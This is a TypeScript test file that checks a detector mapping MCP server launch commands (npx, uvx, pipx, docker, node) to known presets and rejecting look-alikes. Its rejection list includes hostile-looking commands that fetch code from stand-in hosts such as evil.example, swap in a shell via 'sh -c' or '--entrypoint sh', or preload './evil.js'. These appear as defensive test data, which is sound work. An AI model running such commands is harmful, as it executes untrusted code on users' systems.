import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detectPreset } from '../../../lib/presets/detect.ts';
import { PRESETS } from '../../../lib/presets/index.ts';
import type { PresetName } from '../../../lib/presets/names.ts';

type Line = readonly [line: string, preset: PresetName];

const RECOGNISED: readonly Line[] = [
  ['npx @modelcontextprotocol/server-filesystem .', 'filesystem'],
  ['npx -y @modelcontextprotocol/server-filesystem@2026.8.31 /home/ana/project', 'filesystem'],
  ['npx --yes @modelcontextprotocol/server-filesystem@latest .', 'filesystem'],
  ['/usr/local/bin/npx -y @modelcontextprotocol/server-memory', 'memory'],
  ['npx.cmd -y @playwright/mcp@latest --headless', 'playwright'],
  ['npx -y -p @playwright/mcp playwright-mcp --isolated', 'playwright'],
  ['npx -y --package=@playwright/mcp@0.0.83 playwright-mcp', 'playwright'],
  ['npx -y --package @modelcontextprotocol/server-postgres mcp-server-postgres postgresql://h/d', 'postgres'],
  ['npm exec -y @modelcontextprotocol/server-github', 'github'],
  ['npm x -- @modelcontextprotocol/server-slack', 'slack'],
  ['pnpx @modelcontextprotocol/server-puppeteer', 'puppeteer'],
  ['pnpm dlx @modelcontextprotocol/server-puppeteer@2025.5.12', 'puppeteer'],
  ['yarn dlx mcp-sqlite data.db', 'sqlite'],
  ['bunx @modelcontextprotocol/server-memory', 'memory'],
  ['bunx --bun @modelcontextprotocol/server-memory', 'memory'],
  ['bun x -y mcp-server-commands', 'shell'],
  ['cmd /c npx -y @modelcontextprotocol/server-github', 'github'],
  ['cmd.exe /C npx -y mcp-fetch-server', 'fetch'],
  ['uvx mcp-server-git --repository .', 'git'],
  ['uvx mcp-server-git@2026.10.19', 'git'],
  ['uvx mcp-server-fetch==2026.10.24', 'fetch'],
  ['uvx --from mcp-server-sqlite mcp-server-sqlite --db-path a.db', 'sqlite'],
  ['uvx --from=mcp_server_sqlite[all]>=2025 mcp-server-sqlite', 'sqlite'],
  ['uvx --python 3.12 --with mcp<2 mcp-server-sqlite', 'sqlite'],
  ['uvx -q Mcp.Server_Git', 'git'],
  ['uv tool run mcp-server-git', 'git'],
  ['pipx run mcp-server-fetch', 'fetch'],
  ['pipx run --spec mcp-shell-server==1.1.14 mcp-shell-server', 'shell'],
  ['docker run -i --rm mcp/filesystem /projects', 'filesystem'],
  ['docker run -i --rm -e GITHUB_PERSONAL_ACCESS_TOKEN ghcr.io/github/github-mcp-server', 'github'],
  ['docker run -i --rm -eTOKEN=1 ghcr.io/github/github-mcp-server:v1 stdio --read-only', 'github'],
  ['docker container run -i --mount type=bind,src=/a,dst=/b docker.io/mcp/git@sha256:00ff', 'git'],
  ['podman run --rm -i --init mcr.microsoft.com/playwright/mcp:v0.0.83', 'playwright'],
  ['node /app/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js .', 'filesystem'],
  ['node node_modules/mcp-server-commands/build/index.js', 'shell'],
  ['node ./x/../node_modules/@playwright/mcp/cli.js', 'playwright'],
  ['/app/node_modules/@modelcontextprotocol/server-memory/dist/index.js', 'memory'],
  ['npx -y @zencoderai/slack-mcp-server', 'slack'],
  ['npx -y @wonderwhy-er/desktop-commander@latest', 'shell'],
  ['npx -y @executeautomation/playwright-mcp-server', 'playwright'],
];

const UNKNOWN: readonly (readonly [line: string, why: string])[] = [
  ['npx @modelcontextprotocol/server-filesystem-x .', 'a longer name'],
  ['npx server-filesystem .', 'no scope'],
  ['npx @modelcontextprotocol2/server-filesystem', 'another scope'],
  ['npx @ModelContextProtocol/server-filesystem', 'other letters'],
  ['npx mcp-server-git', 'the name is that of a package of PyPI'],
  ['npx mcp-server-filesystem', 'a program is named, which any package can install'],
  ['npx -y github:evil/server-filesystem', 'not from the registry'],
  ['npx -y @modelcontextprotocol/server-filesystem@npm:evil', 'an alias'],
  ['npx -y ./node_modules/@modelcontextprotocol/server-filesystem', 'a folder npx would build'],
  ['npx --registry=https://npm.evil.example @modelcontextprotocol/server-filesystem', 'another registry'],
  ['npx -p @playwright/mcp sh -c ./evil', 'another program'],
  ['npx -p @playwright/mcp -p evil playwright-mcp', 'one of two packages'],
  ['npx -c "@playwright/mcp"', 'a shell command'],
  ['npx', 'nothing'],
  ['npm run @playwright/mcp', 'a script'],
  ['npm install @playwright/mcp', 'an installation'],
  ['pnpm exec @playwright/mcp', 'what is installed here'],
  ['yarn @playwright/mcp', 'a script'],
  ['uvx @modelcontextprotocol/server-filesystem', 'no name PyPI could have'],
  ['uvx --from git+https://evil.example/mcp-server-git mcp-server-git', 'not from PyPI'],
  ['uvx --from mcp-server-git sh', 'another program'],
  ['uvx --from evil mcp-server-git', 'another package'],
  ['uvx --index-url https://evil.example mcp-server-git', 'another index'],
  ['uvx ./mcp-server-git', 'a folder'],
  ['uvx --from', 'nothing'],
  ['uv run mcp-server-git', 'what the project installs under that name'],
  ['pipx mcp-server-git', 'no way to start it'],
  ['pip run mcp-server-git', 'no starter'],
  ['docker run -i mcp/filesystem-x', 'a longer image name'],
  ['docker run -i evil.example/mcp/filesystem', 'another registry'],
  ['docker run -i --entrypoint sh mcp/filesystem', 'another program in the image'],
  ['docker run -i --entrypoint=sh mcp/filesystem', 'another program in the image'],
  ['docker run -i --name mcp/filesystem evil', 'the value of an option'],
  ['docker exec -i run mcp/filesystem', 'not a run'],
  ['docker run -i', 'no image'],
  ['docker', 'nothing'],
  ['node --import ./evil.js node_modules/@playwright/mcp/cli.js', 'other code is loaded first'],
  ['node -e 1 node_modules/@playwright/mcp/cli.js', 'other code'],
  ['node node_modules/@playwright/mcp/../../evil/cli.js', 'another folder'],
  ['node node_modules/@playwright/mcp', 'no file in it'],
  ['node my_node_modules/@playwright/mcp/cli.js', 'no folder of packages'],
  ['node node_modules/.bin/playwright-mcp', 'a link any package can install'],
  ['node', 'nothing'],
  ['mcp-server-filesystem .', 'a program of that name'],
  ['/usr/bin/mcp-server-git', 'a program of that name'],
  ['python -m mcp_server_git', 'a module the folder can hold as well'],
  ['cmd /k npx -y @playwright/mcp', 'a shell that goes on'],
  ['cmd /c', 'nothing'],
  ['sh -c npx', 'a shell'],
  ['bash', 'a shell'],
];

function detect(line: string): PresetName | undefined {
  const [command, ...args] = line.split(' ');
  return detectPreset(command!, args);
}

test('a server is recognised by the exact name of its package, whatever starts it and whatever the version', () => {
  for (const [line, preset] of RECOGNISED) assert.equal(detect(line), preset, line);
});

test('nothing that only looks like a known package is recognised', () => {
  for (const [line, why] of UNKNOWN) assert.equal(detect(line), undefined, `${line}: ${why}`);
});

test('every package of every preset is recognised as its starter names it', () => {
  const starter = { npm: 'npx -y', pypi: 'uvx', image: 'docker run -i --rm' };
  for (const { name, packages } of PRESETS) {
    for (const of of Object.keys(packages)) {
      const [registry, rest] = [of.slice(0, of.indexOf(':')), of.slice(of.indexOf(':') + 1)];
      assert.equal(detect(`${starter[registry as keyof typeof starter]} ${rest}`), name, of);
    }
  }
});

test('no package is claimed by two presets', () => {
  const claimed = PRESETS.flatMap(({ packages }) => Object.keys(packages));
  assert.equal(new Set(claimed).size, claimed.length);
});
